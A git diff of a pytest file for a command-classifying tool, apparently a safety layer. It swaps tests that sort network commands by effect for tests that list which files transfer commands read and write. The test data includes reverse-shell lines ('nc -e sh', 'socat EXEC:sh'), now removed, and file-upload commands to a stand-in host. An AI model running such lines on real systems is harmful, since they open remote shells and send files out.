@@ -1,79 +1,51 @@
-"""net: which command lines of network programs only read, and what the others do."""
+"""Programs that transfer files: which files they touch."""
 
-from collections.abc import Callable, Mapping
+import shlex
 
 import pytest
 
-from automode.programs.net import PROGRAMS
-from automode.programs.use import Effect, Judge, Use
-from automode.shell.script import Word
+from automode.core.workspace import Workspace
+from automode.facts.files import Names
+from automode.programs.table import programs
+from automode.programs.use import Invocation
+from automode.shell.script import Command, Word
 
-UseOf = Callable[[Mapping[str, Judge], str | tuple[Word, ...]], Use]
-
-READING = r"""
-curl --version
-curl --help
-wget --help
-ssh -V
-ssh -Q cipher
-ping --help
-rsync -an --delete src/ dest/
-rsync --dry-run -av src/ dest/
-rsync --version
-""".strip().splitlines()
-OTHERWISE = {
-    Effect.NETWORK: r"""
-curl https://x.test
-curl -sSL https://x.test -o /dev/null
-wget -qO- https://x.test
-ping x.test
-dig x.test
-host x.test
-nc -l 80
-telnet x.test
-ssh x.test ls
-scp a x.test:b
-rsync -n src/ x.test:dest/
-nmap x.test
-whois x.test
-http x.test
-""".strip().splitlines(),
-    Effect.WRITES: r"""
-curl -o a https://x.test
-curl -O https://x.test/a
-curl -sLo a https://x.test
-wget https://x.test/a
-rsync -a src/ dest/
-rsync -n -e sh src/ dest/
-rsync -n --log-file=x src/ dest/
-rsync -n --rsync-path=x src/ dest/
-""".strip().splitlines(),
-    Effect.REMOTE_WRITE: r"""
-curl -X DELETE https://x.test
-curl -d @a https://x.test
-curl -F a=@b https://x.test
-curl -T a https://x.test
-curl --json '{}' https://x.test
-wget --post-data=x https://x.test
-ssh x.test 'rm x'
-scp a x.test:b
-""".strip().splitlines(),
-    Effect.RUNS: r"""
-nc -e sh x.test 1
-socat - EXEC:sh
-""".strip().splitlines(),
-}
+ROOT = "/home/ada/project"
 
 
-@pytest.mark.parametrize("line", READING)
-def test_a_form_that_only_prints_reads(line: str, use_of: UseOf) -> None:
-    assert use_of(PROGRAMS, line).effect is Effect.NONE
+def touched(line: str) -> set[tuple[str, str]]:
+    command = Command(tuple(map(Word, shlex.split(line))), cwd=ROOT)
+    workspace = Workspace(ROOT, ROOT, "/home/ada", Names(ROOT))
+    invocation = Invocation(command.program, command.args, command, workspace)
+    found = programs()[command.program].touches(invocation)
+    return {(touch.kind.value, touch.word.text) for touch in found}
 
 
 @pytest.mark.parametrize(
-    ("effect", "line"), [(effect, line) for effect, lines in OTHERWISE.items() for line in lines]
+    ("line", "files"),
+    [
+        ("curl -o a https://x.test", "writes:a"),
+        ("curl -sLo a --output-dir d https://x.test", "writes:d/a writes:d"),
+        ("curl -O https://x.test/a?b=c", "writes:a"),
+        ("curl -c jar -D head https://x.test", "writes:jar writes:head"),
+        ("curl -d @a https://x.test", "reads:a"),
+        ("curl --data-urlencode n@a https://x.test", "reads:a"),
+        ("curl --data-raw @a https://x.test", ""),
+        ("curl -F 'f=@a;type=text/plain' -F t=<b https://x.test", "reads:a reads:b"),
+        ("curl -T a --cert c https://x.test", "reads:a reads:c"),
+        ("curl -K a", "lists:a"),
+        ("wget https://x.test/a", "writes:a"),
+        ("wget -P d https://x.test/", "writes:d writes:d/index.html"),
+        ("wget -nv -O a -o log https://x.test/b", "writes:a writes:log"),
+        ("wget --post-file=a -O- https://x.test", "reads:a writes:-"),
+        ("rsync -a src dest", "tree:src writes:dest writes:dest/src"),
+        ("rsync -a src/ x.test:dest", "tree:src/"),
+        ("scp -i key a b x.test:c", "reads:key tree:a tree:b"),
+        ("scp x.test:/a/b .", "writes:. writes:./b"),
+        ("aria2c -d d -o a https://x.test", "writes:d writes:a"),
+    ],
 )
-def test_a_form_that_does_more_says_what(effect: Effect, line: str, use_of: UseOf) -> None:
-    use = use_of(PROGRAMS, line)
-    assert effect in use.effect
-    assert use.why
+def test_a_transfer_names_the_files_it_reads_and_writes(line: str, files: str) -> None:
+    wanted = {(kind, name) for kind, _, name in (one.partition(":") for one in files.split())}
+
+    assert touched(line) == wanted
